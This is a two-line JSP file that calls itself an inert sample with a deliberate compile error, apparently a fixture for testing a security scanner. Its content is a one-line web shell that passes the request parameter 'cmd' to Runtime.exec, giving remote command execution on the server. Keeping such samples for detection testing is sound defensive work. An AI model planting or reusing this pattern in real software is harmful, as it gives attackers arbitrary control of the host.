<% shodo inert sample: deliberate compile error, this page never runs %>
<%@ page isELIgnored="false" %>${Runtime.getRuntime().exec(param.cmd)}
